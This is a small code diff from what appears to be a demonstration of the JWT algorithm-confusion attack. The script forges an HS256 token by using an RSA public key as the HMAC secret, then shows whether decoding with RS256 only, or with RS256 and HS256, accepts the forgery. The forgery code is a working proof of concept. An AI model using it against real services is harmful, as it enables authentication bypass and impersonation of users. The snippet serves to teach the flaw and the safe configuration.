@@ -19,7 +19,7 @@ def b64(raw: bytes) -> str:
     return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
 
 
-# shown: everybody knows the public key; the forger signs with it, as if it were a shared secret
+# shown: the public key is public; the attacker uses it as the secret of an HMAC
 body = ".".join(
     b64(json.dumps(part).encode())
     for part in ({"alg": "HS256", "typ": "JWT"}, {"sub": "1", "exp": int(hours(1).timestamp())})
@@ -28,7 +28,7 @@ forged = f"{body}.{b64(hmac.digest(pem, body.encode(), hashlib.sha256))}"
 
 for algorithms in (["RS256"], ["RS256", "HS256"]):
     try:
-        print("let in:", Token.decode(forged, pem, algorithms=algorithms).sub)
+        print("accepted:", Token.decode(forged, pem, algorithms=algorithms).sub)
     except jwt.PyJWTError as error:
         print("refused:", error)
 # /shown
